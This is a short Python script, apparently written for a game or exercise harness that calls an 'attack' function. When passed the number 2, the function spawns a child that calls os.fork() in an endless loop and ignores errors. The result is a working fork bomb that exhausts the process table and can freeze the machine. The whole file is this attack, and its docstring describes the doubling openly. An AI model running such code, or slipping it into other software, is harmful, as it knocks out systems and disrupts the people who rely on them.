#!/usr/bin/env python3
"""Doubles, and doubles again, and each of them lasts."""
import os

import playing


def attack(number):
    if number == 2 and os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                pass


playing.play(attack)
